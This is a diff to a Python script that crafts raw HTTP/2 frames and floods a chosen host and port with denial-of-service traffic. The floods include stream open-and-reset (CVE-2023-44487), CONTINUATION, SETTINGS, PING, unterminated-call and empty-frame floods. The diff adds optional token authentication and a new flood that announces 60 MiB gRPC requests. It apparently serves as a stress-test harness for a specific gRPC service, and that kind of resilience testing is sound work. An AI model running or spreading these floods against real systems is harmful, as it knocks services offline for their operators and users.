@@ -1,10 +1,12 @@
 """HTTP/2 by hand, as clients speak it that mean harm: frames, and floods of them.
 
 As a program it floods an address for some seconds, reconnecting whenever it is cut off:
-raw_http2.py KIND HOST PORT CONNECTIONS SECONDS. It prints how much it sent as JSON.
+raw_http2.py KIND HOST PORT CONNECTIONS SECONDS. It prints how much it sent as JSON. With
+FLOOD_TOKEN in the environment its calls carry that token.
 """
 
 import json
+import os
 import socket
 import struct
 import sys
@@ -52,6 +54,7 @@ def message(body=b""):
     return b"\0" + struct.pack(">I", len(body)) + body
 
 
+TOKEN = os.environ.get("FLOOD_TOKEN")
 LIST = "/merganser.v1.MergeService/ListJobs"
 CREATE = "/merganser.v1.MergeService/CreateJob"
 WATCH = "/grpc.health.v1.Health/Watch"
@@ -88,7 +91,7 @@ def _streams():
 
 def reset():
     """Streams opened and reset at once (CVE-2023-44487)."""
-    block = headers(LIST)
+    block = headers(LIST, TOKEN)
     for first in range(1, 1 << 29, 400):
         yield b"".join(frame(HEADERS, END_HEADERS | END_STREAM, s, block) +
                        frame(RESET, 0, s, CANCEL) for s in range(first, first + 400, 2))
@@ -96,13 +99,13 @@ def reset():
 
 def leave():
     """Calls without an end, as many as there may be; then the connection is dropped."""
-    block = headers(LIST)
+    block = headers(LIST, TOKEN)
     yield b"".join(frame(HEADERS, END_HEADERS, s, block) for s in range(1, 512, 2))
 
 
 def calls():
     """Calls without a token, each whole."""
-    block = headers(LIST)
+    block = headers(LIST, TOKEN)
     for first in range(1, 1 << 29, 100):
         yield b"".join(frame(HEADERS, END_HEADERS, s, block) +
                        frame(DATA, END_STREAM, s, message())
@@ -117,6 +120,16 @@ def health():
                                                                  message())
 
 
+def messages():
+    """Requests of 60 MiB, as far as they are taken."""
+    block, part = headers(CREATE, TOKEN), bytes(16384)
+    for stream in _streams():
+        yield frame(HEADERS, END_HEADERS, stream, block) + frame(
+            DATA, 0, stream, b"\0" + struct.pack(">I", 60 << 20) + part[5:])
+        for _ in range(8):
+            yield frame(DATA, 0, stream, part)
+
+
 def settings():
     while True:
         yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)) * 200
@@ -129,7 +142,7 @@ def ping():
 
 def empty():
     """Frames that hold nothing."""
-    yield frame(HEADERS, END_HEADERS, 1, headers(CREATE))
+    yield frame(HEADERS, END_HEADERS, 1, headers(CREATE, TOKEN))
     while True:
         yield frame(DATA, 0, 1) * 400
 
@@ -141,7 +154,7 @@ def continuation():
         yield frame(CONTINUATION, 0, 1, b"\0" + _string("x" * 8) + _string("y" * 8000))
 
 
-KINDS = {f.__name__: f for f in (reset, leave, calls, health, settings, ping, empty,
+KINDS = {f.__name__: f for f in (reset, leave, calls, health, messages, settings, ping, empty,
                                  continuation)}
 
 
